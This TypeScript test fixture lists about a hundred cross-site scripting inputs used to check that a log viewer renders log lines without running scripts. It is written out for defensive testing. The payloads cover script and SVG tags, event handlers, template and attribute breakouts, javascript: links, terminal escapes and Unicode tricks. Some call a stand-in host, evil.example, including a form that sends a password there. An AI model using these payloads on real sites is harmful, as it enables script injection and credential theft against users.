/**
 * Log lines that try to run a script in the reader's page. A script that runs calls `xss()`, which the test
 * page defines.
 *
 * @module
 */

/** Each attack, and the text that tries it. */
export const XSS: readonly [attack: string, text: string][] = [
  // Elements
  ["a script", `<script>xss(1)</script>`],
  ["a script in capitals", `<SCRIPT>xss(1)</SCRIPT>`],
  ["a script with a slash in its tag", `<script/x>xss(1)</script>`],
  ["a script from elsewhere", `<script src="/xss.js"></script>`],
  [
    "a script from elsewhere, by protocol-relative URL",
    `<script src=//evil.example/x.js></script>`,
  ],
  ["a module", `<script type="module">import "/xss.js"</script>`],
  ["a script inside a script", `<scr<script>ipt>xss(1)</scr</script>ipt>`],
  ["an unclosed script", `<script>xss(1)//`],
  ["an image that fails", `<img src=x onerror=xss(1)>`],
  [
    "an image that fails, without quotes, and with slashes for spaces",
    `<img/src=/x/onerror=xss(1)//`,
  ],
  ["an image that loads", `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=xss(1)>`],
  ["a tracking pixel", `<img src="/pixel.gif">`],
  ["an image with a srcset", `<img srcset="/pixel.gif 1x">`],
  ["an SVG that loads", `<svg onload=xss(1)>`],
  ["an SVG with a script", `<svg><script>xss(1)</script></svg>`],
  [
    "an SVG that animates a link",
    `<svg><a><animate attributeName=href values=javascript:xss(1) /><text>x`,
  ],
  [
    "an SVG that uses another",
    `<svg><use href="data:image/svg+xml,<svg id=x onload=xss(1)>#x"/></svg>`,
  ],
  [
    "an SVG with a foreign object",
    `<svg><foreignObject><body onload=xss(1)></foreignObject></svg>`,
  ],
  ["MathML", `<math><mtext><table><mglyph><style><img src=x onerror=xss(1)>`],
  ["a frame", `<iframe src="javascript:xss(1)"></iframe>`],
  ["a frame with a document", `<iframe srcdoc="<script>parent.xss(1)</script>"></iframe>`],
  ["an object", `<object data="javascript:xss(1)"></object>`],
  ["an embed", `<embed src="javascript:xss(1)">`],
  ["a base", `<base href="//evil.example/">`],
  ["a refresh", `<meta http-equiv="refresh" content="0;url=javascript:xss(1)">`],
  ["a style sheet", `<link rel="stylesheet" href="/xss.css">`],
  ["a style", `<style>*{background:url(/pixel.gif)}</style>`],
  ["a style with an import", `<style>@import "/xss.css";</style>`],
  [
    "a form that takes a password",
    `<form action="//evil.example"><input name=password autofocus></form>`,
  ],
  ["a button of another form", `<button form=x formaction="javascript:xss(1)">Watch</button>`],
  ["a template", `<template shadowrootmode="open"><script>xss(1)</script></template>`],
  ["a slot", `<slot name="x" onslotchange=xss(1)></slot>`],
  ["the viewer itself", `<natstap-viewer src="/elsewhere" token="x"></natstap-viewer>`],
  ["a dialog", `<dialog open><h1>Sign in again</h1></dialog>`],
  // Event handlers
  ["a details element that opens", `<details open ontoggle=xss(1)>x</details>`],
  ["an input that takes the focus", `<input autofocus onfocus=xss(1)>`],
  ["a video", `<video><source onerror=xss(1)></video>`],
  ["an audio", `<audio src=x onerror=xss(1)>`],
  ["a marquee", `<marquee onstart=xss(1)>x</marquee>`],
  ["a body", `<body onload=xss(1)>`],
  ["an animation", `<p style="animation:x" onanimationstart="xss(1)">x</p>`],
  ["an element under the pointer", `<b onmouseover=xss(1) style="position:fixed;inset:0">x</b>`],
  ["a handler with a line break in its name", `<img src=x one\nrror=xss(1)>`],
  ["a handler after a NUL", `<img src=x \0onerror=xss(1)>`],
  // Breaking out of the context
  ["the end of an attribute", `" onmouseover="xss(1)" x="`],
  ["the end of an attribute with apostrophes", `' onmouseover='xss(1)' x='`],
  ["the end of an attribute and of its tag", `"><img src=x onerror=xss(1)>`],
  ["the end of a title", `</title><script>xss(1)</script>`],
  ["the end of a text area", `</textarea><script>xss(1)</script>`],
  ["the end of a style", `</style><script>xss(1)</script>`],
  ["the end of a comment", `--><script>xss(1)</script><!--`],
  ["the end of a CDATA section", `]]><script>xss(1)</script>`],
  ["the end of a script's string", `";xss(1);//`],
  ["the end of the viewer", `</natstap-viewer><script>xss(1)</script>`],
  ["a marker of Lit's templates", `<!--?lit$123456789$--><?lit$123456789$>{{lit-123456789}}`],
  ["a template's expression", "${xss(1)}"],
  ["another template's expression", `{{constructor.constructor("xss(1)")()}}`],
  ["a third template's expression", `<%= xss(1) %> #{xss(1)} [[xss(1)]]`],
  [
    "a Lit expression as JSON",
    `{"_$litType$":1,"strings":["<img src=x onerror=xss(1)>"],"values":[]}`,
  ],
  ["a Lit directive as JSON", `{"_$litDirective$":1,"values":["<img src=x onerror=xss(1)>"]}`],
  // Links
  ["a link to a script", `javascript:xss(1)`],
  ["a link element to a script", `<a href="javascript:xss(1)">click</a>`],
  ["a link to a script after a link", `https://a.example/ javascript:xss(1)//https://b.example/`],
  ["a link to a script with a host", `javascript://a.example/%0axss(1)`],
  ["a link to data", `data:text/html,<script>xss(1)</script>`],
  [
    "links with other schemes",
    `view-source:https://a.example/ blob:https://a.example/x file:///etc/passwd`,
  ],
  ["a link with a quote", `https://a.example/"onmouseover="xss(1)`],
  ["a link with a tag", `https://a.example/<img src=x onerror=xss(1)>`],
  ["a link with a user name that looks like another host", `https://bank.example@evil.example/`],
  ["a link with a tab in its scheme", `java\tscript:xss(1) ht\ttps://a.example`],
  ["Markdown", `[click](javascript:xss(1)) ![x](/pixel.gif)`],
  ["a terminal hyperlink to a script", `\x1b]8;;javascript:xss(1)\x1b\\click\x1b]8;;\x1b\\`],
  ["an unclosed terminal hyperlink", `\x1b]8;;javascript:xss(1)\x07click`],
  // Colors and HTML
  ["HTML in color", `\x1b[31m<img src=x onerror=xss(1)>\x1b[0m`],
  ["a tag in two colors", `\x1b[31m<img src=x \x1b[32monerror=xss(1)>\x1b[0m`],
  ["a color with a style in it", `\x1b[38;2;1;2;3;background:url(/pixel.gif)mred`],
  ["an invalid color", `\x1b[38;5;999999999999m\x1b[48;2;-1;1e9;NaNmx\x1b[0m`],
  ["a terminal title", `\x1b]0;</title><script>xss(1)</script>\x07`],
  ["a terminal query", `\x1b[6n\x1b[c\x1bP$q"p\x1b\\`],
  // JSON
  ["JSON with HTML as a value", `{"msg":"<img src=x onerror=xss(1)>"}`],
  ["JSON with HTML as a key", `{"<img src=x onerror=xss(1)>":1}`],
  ["JSON with escaped HTML", `{"a":"\\u003cscript\\u003exss(1)\\u003c/script\\u003e"}`],
  [
    "JSON with a link to a script",
    `{"url":"javascript:xss(1)","href":"https://a.example/\\"onclick=xss(1)"}`,
  ],
  [
    "JSON with a prototype",
    `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
  ],
  [
    "JSON with toString",
    `{"toString":"xss(1)","valueOf":null,"toJSON":1,"length":-1,"then":"xss"}`,
  ],
  ["an array with HTML", `["<svg onload=xss(1)>",["<img src=x onerror=xss(1)>"]]`],
  [
    "deeply nested JSON",
    `${`{"a":`.repeat(300)}"<img src=x onerror=xss(1)>"${"}".repeat(300)}`,
  ],
  // Unicode
  ["full-width brackets", `＜script＞xss(1)＜/script＞`],
  ["text that is displayed backward", `\u202E>tpircs/<)1(ssx>tpircs<\u202C`],
  ["invisible letters in a tag", `<scr\u200Bipt>xss(1)</scr\u200Bipt>`],
  ["UTF-7", `+ADw-script+AD4-xss(1)+ADw-/script+AD4-`],
  ["Unicode line breaks in a script", `<script>\u2028xss(1)\u2029</script>`],
  ["a byte order mark before a tag", `\uFEFF<script>xss(1)</script>`],
  ["entities", `&lt;script&gt;xss(1)&lt;/script&gt;&#60;img src=x onerror=xss(1)&#62;`],
  // Names with a meaning in JavaScript
  ["the name of the prototype", `__proto__`],
  ["the name of the constructor", `constructor`],
  ["the name of a method", `hasOwnProperty`],
];
